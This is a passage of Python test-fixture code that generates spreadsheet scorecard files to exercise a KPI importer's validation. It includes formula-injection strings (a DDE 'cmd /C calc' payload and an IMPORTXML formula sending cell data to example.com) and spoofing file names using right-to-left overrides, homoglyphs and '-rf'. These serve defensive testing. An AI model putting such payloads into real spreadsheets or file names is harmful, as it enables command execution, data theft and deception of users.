        (1, "actual", "1 500 000", 1_500_000),
        (1, "actual", "1.500.000,00", 1_500_000),
        (0, "actual", "\uff14\uff10", 40),
        (6, "actual", "113,65", 113.65),
    ]
    for i, (row_i, key, text, number) in enumerate(readable):
        c = card()
        c.kpis[row_i][{"target": 3, "actual": 4}[key]] = text
        numbers = Card(c.employee, [list(k) for k in c.kpis])
        numbers.kpis[row_i][{"target": 3, "actual": 4}[key]] = number
        b.add(
            f"numbers/read-{i + 1}.xlsx",
            xlsx_bytes([c.sheet_obj()]),
            "text-in-number",
            READ_AS_NUMBER,
            sheet=c.sheet,
            cell=c.cell(row_i, key),
            cards=((c.employee.employee_id, numbers.result()),),
        )
    for i, (row_i, key, text) in enumerate(
        ((1, "target", "1,500"), (0, "actual", "1.500"), (1, "actual", "12.500"))
    ):
        bad(f"numbers/ambiguous-{i + 1}.xlsx", card(), "text-in-number", AMBIGUOUS_NUMBER, row_i, key, text)
    for i, (row_i, key) in enumerate(((0, "target"), (0, "weight"), (3, "actual"))):  # spaces: read silently
        c = card()
        value = c.kpis[row_i][{"weight": 2, "target": 3, "actual": 4}[key]]
        text = f"  {_number(value)} "  # "  40 " for the first
        numbers = c.result()
        c.kpis[row_i][{"weight": 2, "target": 3, "actual": 4}[key]] = text
        b.add(
            f"numbers/spaces-{i + 1}.xlsx",
            xlsx_bytes([c.sheet_obj()]),
            "text-in-number",
            None,
            cards=((c.employee.employee_id, numbers),),
        )

    # percentages typed two ways in one row
    for i, (row_i, target, actual, side) in enumerate(
        (
            (4, Percent(0.25), 22, "target"),
            (4, 25, Percent(0.22), "actual"),
            (4, "25%", Percent(0.22), "actual"),
            (5, Percent(0.2), 21, "target"),
        )
    ):
        c = card()
        c.kpis[row_i][3], c.kpis[row_i][4] = target, actual
        b.add(
            f"percent/mixed-{i + 1}.xlsx",
            xlsx_bytes([c.sheet_obj()]),
            "mixed-percent",
            MIXED_PERCENT,
            sheet=c.sheet,
            cell=c.cell(row_i, side),
            cards=((c.employee.employee_id, None),),
        )

    # weights
    for i, (row_i, weight) in enumerate(((0, -15), (3, -10), (6, -0.5))):
        bad(
            f"weights/negative-{i + 1}.xlsx",
            card(),
            "negative-weight",
            NEGATIVE_WEIGHT,
            row_i,
            "weight",
            weight,
        )
    for i, row_i in enumerate((1, 5)):
        c = card()
        c.kpis[row_i][2] = 0
        result = c.result()
        b.add(
            f"weights/zero-{i + 1}.xlsx",
            xlsx_bytes([c.sheet_obj()]),
            "zero-weight",
            ZERO_WEIGHT,
            sheet=c.sheet,
            cell=c.cell(row_i, "weight"),
            cards=((c.employee.employee_id, result),),
        )
    for i, (row_i, weight) in enumerate(((0, 5), (4, 30), (6, 14.5))):
        c = card()
        c.kpis[row_i][2] = weight
        result = c.result()
        b.add(
            f"weights/sum-not-100-{i + 1}.xlsx",
            xlsx_bytes([c.sheet_obj()]),
            "weights-not-100",
            WEIGHTS_NOT_100,
            sheet=c.sheet,
            cards=((c.employee.employee_id, result),),
        )

    # blank targets
    for i, row_i in enumerate((0, 2, 6)):
        bad(f"targets/blank-{i + 1}.xlsx", card(), "blank-target", BLANK_TARGET, row_i, "target", None)

    # one employee on two scorecards; one file under two names
    for i in range(2):
        who = b.employee()
        first = Card(who, b.kpis(), cached=False)
        second = Card(Employee(who.employee_id, who.name), b.kpis(), cached=False)
        a = f"duplicates/employee-{i + 1}-january.xlsx"
        z = f"duplicates/employee-{i + 1}-resent.xlsx"
        b.add(
            a,
            xlsx_bytes([first.sheet_obj()]),
            "duplicate-employee",
            DUPLICATE_EMPLOYEE,
            sheet="KPI",
            cards=((who.employee_id, first.result()),),
            twin=Path(z).name,
        )
        b.add(
            z,
            xlsx_bytes([second.sheet_obj()]),
            "duplicate-employee",
            DUPLICATE_EMPLOYEE,
            sheet="KPI",
            cards=((who.employee_id, second.result()),),
            twin=Path(a).name,
        )
    for i in range(2):
        c = Card(b.employee(), b.kpis())
        blob = xlsx_bytes([c.sheet_obj()])
        a = f"duplicates/scorecard-{c.employee.employee_id}.xlsx"
        z = f"duplicates/copy of scorecard-{c.employee.employee_id} (1).xlsx"
        for rel, other in ((a, z), (z, a)):
            b.add(
                rel,
                blob,
                "same-file-twice",
                DUPLICATE_FILE,
                sheet="KPI",
                cards=((c.employee.employee_id, c.result()),),
                twin=Path(other).name,
            )

    # sheets: chart sheets, hidden sheets, no KPI table
    notes = Sheet("Catatan", [["Catatan penilaian"], ["Dinilai oleh atasan langsung."]])
    for i, state in enumerate(("hidden", "hidden", "veryHidden")):
        c = Card(b.employee(), b.kpis())
        b.add(
            f"sheets/hidden-scorecard-{i + 1}.xlsx",
            xlsx_bytes([notes, c.sheet_obj(state=state)]),
            "hidden-sheet",
            None,
            cards=((c.employee.employee_id, c.result()),),
        )
    for i in range(2):
        c = Card(b.employee(), b.kpis())
        junk = Sheet("Data", [["x", 1, 2], ["y", 3, 4]], state="hidden")
        b.add(
            f"sheets/hidden-data-{i + 1}.xlsx",
            xlsx_bytes([c.sheet_obj(), junk]),
            "hidden-sheet",
            None,
            cards=((c.employee.employee_id, c.result()),),
        )
    for i in range(3):
        one, two = (
            Card(b.employee(), b.kpis(), sheet="Januari"),
            Card(b.employee(), b.kpis(), sheet="Februari"),
        )
        state = "hidden" if i == 2 else "visible"
        b.add(
            f"sheets/two-scorecards-{i + 1}.xlsx",
            xlsx_bytes([one.sheet_obj(), two.sheet_obj(state=state)]),
            "multi-sheet",
            None,
            cards=((one.employee.employee_id, one.result()), (two.employee.employee_id, two.result())),
        )
    for i in range(3):
        c = Card(b.employee(), b.kpis())
        b.add(
            f"sheets/chart-sheet-{i + 1}.xlsx",
            _with_chart_sheet(c.sheet_obj(), i),
            "chart-sheet",
            None,
            cards=((c.employee.employee_id, c.result()),),
        )
    b.add("sheets/chart-only.xlsx", _with_chart_sheet(None, 3), "chart-sheet", NO_KPI_TABLE)
    no_table = [
        ("blank.xlsx", [Sheet("Sheet1", [])]),
        ("notes.xlsx", [notes]),
        ("employee-list.xlsx", [Sheet("Karyawan", [["Nama", "NIK", "Gaji"], ["Budi", "E1", 8_000_000]])]),
        (
            "no-actual-column.xlsx",
            [
                Sheet(
                    "KPI", [["Objective", "Indikator (KPI)", "Bobot", "Target"], ["Blog", "Artikel", 15, 40]]
                )
            ],
        ),
        ("header-only.xlsx", [Sheet("KPI", [["Objective", "Indikator (KPI)", "Bobot", "Target", "Aktual"]])]),
        ("numbers-only.xlsx", [Sheet("Sheet1", [[1, 2, 3], [4, 5, 6]])]),
    ]
    for name, sheets in no_table:
        b.add(f"no-table/{name}", xlsx_bytes(sheets), "no-kpi-table", NO_KPI_TABLE)


def _with_chart_sheet(sheet: Sheet | None, seed: int) -> bytes:
    """A workbook with a bar chart on a chart sheet (openpyxl), re-zipped with fixed timestamps."""
    import datetime as dt

    from openpyxl import Workbook
    from openpyxl.chart import BarChart, Reference

    wb = Workbook()
    ws = wb.active
    if sheet is None:
        ws.title = "Data"
        ws.append(["KPI", "Skor"])
        for i in range(4):
            ws.append([f"KPI {i + 1}", 80 + 10 * i + seed])
        data_rows = (2, 5)
        data_col = 2
        ws.sheet_state = "hidden"
    else:
        ws.title = sheet.name
        for r, row in enumerate(sheet.rows, start=1):
            for c, value in enumerate(row, start=1):
                if isinstance(value, Formula):
                    ws.cell(r, c, f"={value.text}")
                elif value is not None:
                    ws.cell(r, c, value)
        for ref in sheet.merges:
            ws.merge_cells(ref)
        data_rows = (10, 16) if sheet.rows[0] else (8, 14)
        data_col = 4
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=data_col, min_row=data_rows[0], max_row=data_rows[1]))
    chartsheet = wb.create_chartsheet("Grafik")
    chartsheet.add_chart(chart)
    if sheet is None:
        wb.active = 1
    fixed = dt.datetime(2025, 1, 31, 12, 0, 0)
    wb.properties.created = fixed
    wb.properties.modified = fixed
    buffer = io.BytesIO()
    wb.save(buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as z:
        parts = [(i.filename, z.read(i)) for i in z.infolist()]
    out = []
    for name, data in parts:
        if name == "docProps/core.xml":
            data = re.sub(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*", rb"\g<1>2025-01-31T12:00:00Z", data)
        out.append((name, data))
    return zip_bytes(out)


FORMULA_TEXTS = [
    ("name", "=1+1"),
    ("name", "+6281234567"),
    ("name", "-Budi"),
    ("name", "@Budi"),
    ("indicator", '=HYPERLINK("http://example.com/kpi","klik di sini")'),
    ("kra", "=cmd|' /C calc'!A0"),
    ("indicator", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("indicator", "\uff1d1+1 (full-width)"),
    ("name", "\t=1+1"),
    ("indicator", "\r=2+2"),
    ("name", '=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")'),
    ("kra", "-2+3"),
    ("indicator", "+A1"),
    ("indicator", 'Artikel =HYPERLINK("http://example.com")'),
]
NON_LATIN = [
    "王小明",
    "محمد عبد الله",
    "דוד כהן",
    "Budi 😀🎉",
    "สมชาย ใจดี",
    "राजेश कुमार",
    "山田太郎",
    "김민준",
    "Zoë Åström-Ñúñez",
    "Ayu \u200d👩‍👩‍👧 Lestari",
    "Rina \u202eslx.exe\u202c Putri",
]
PATH_NAMES: list[str | bytes] = [
    "..xlsx",
    "...xlsx",
    " leading space.xlsx",
    "trailing space .xlsx",
    "name with\nnewline.xlsx",
    "tab\there.xlsx",
    "scorecard.xlsx",
    "scorec\u0430rd.xlsx",
    "caf\u00e9.xlsx",
    "cafe\u0301.xlsx",
    "report\u202excod.xlsx",
    "x" * 200 + ".xlsx",
    "计分卡" * 26 + ".xlsx",
    "=cmd.xlsx",
    "-rf.xlsx",
    "+1.xlsx",
    "@x.xlsx",
    "quote'and\"double.xlsx",
    "$HOME %s {0}.xlsx",
    "CON.xlsx",
    ".hidden.xlsx",
    "back\\slash.xlsx",
    b"bytes-\xff\xfe-not-utf8.xlsx",
    "a/b/c/d/e/f/g/deep.xlsx",
]


def _texts_and_names(b: _Builder) -> None:
    for i, (field_, text) in enumerate(FORMULA_TEXTS):
        kpis = b.kpis()
        employee = b.employee(name=text) if field_ == "name" else b.employee()
        if field_ == "indicator":
            kpis[2][1] = text
        elif field_ == "kra":
            kpis[2][0] = text
        b.good(
            f"formula-text/text-{i + 1:02d}.xlsx", Card(employee, kpis), kind="formula-text", texts=(text,)
        )
    long_text = ("Sangat panjang " * 700)[:10_000]
    for i, field_ in enumerate(("indicator", "kra", "name", "indicator")):
        kpis = b.kpis()
        text = long_text if i < 3 else "長" * 10_000
        employee = b.employee(name=text) if field_ == "name" else b.employee()
        if field_ == "indicator":
            kpis[1][1] = text
        elif field_ == "kra":
            kpis[0][0] = text
        c = Card(employee, kpis)
        b.good(
            f"long-text/long-{i + 1}.xlsx",
            c,
            kind="long-text",
            texts=(text,),
            expect=LONG_TEXT,
            sheet="KPI",
            cell="" if field_ == "name" else c.cell(1 if field_ == "indicator" else 0, field_),
        )
    for i, name in enumerate(NON_LATIN):
        kpis = b.kpis()
        kpis[0][1] = f"{name}: {kpis[0][1]}"
        b.good(
            f"non-latin/name-{i + 1:02d}.xlsx",
            Card(b.employee(name=name), kpis),
            kind="non-latin",
            texts=(name,),
        )
    for name in PATH_NAMES:
        rel: str | bytes = b"path-tricks/" + name if isinstance(name, bytes) else f"path-tricks/{name}"
        b.good(rel, Card(b.employee(), b.kpis()), kind="path-trick")


# Source of `peak_kb()` for child processes that report their memory: the child's own peak. VmHWM
# counts the process's memory since exec, whereas Linux carries the parent's (pytest's) peak into a
# child's ru_maxrss across fork and exec.
PEAK_KB = """
def peak_kb():
    try:
        with open("/proc/self/status") as status:
            return next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
    except (OSError, StopIteration):
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
"""


def kinds(cases: list[Case]) -> dict[str, int]:
    """Cases per kind, in first-seen order (for the README's figures)."""
    counts: dict[str, int] = {}
    for case in cases:
        counts[case.kind] = counts.get(case.kind, 0) + 1
    return counts


def sha256_tree(folder: str | os.PathLike[str]) -> dict[str, str]:
    """SHA-256 of every file under `folder`, by path relative to it (names as bytes where needed)."""
    out = {}
    root = os.fsencode(folder)
    for base, _, files in os.walk(root):
        for name in files:
            path = os.path.join(base, name)
            h = hashlib.sha256()
            with open(path, "rb") as f:
                for chunk in iter(lambda: f.read(2**20), b""):
                    h.update(chunk)
            out[os.fsdecode(os.path.relpath(path, root))] = h.hexdigest()
    return out


__all__ = [
    "Case",
    "build_corpus",
    "kinds",
    "sha256_tree",
    "shared_corpus",
    "DATA_CODES",
    "PREFLIGHT_CODES",
    "PEAK_KB",
]
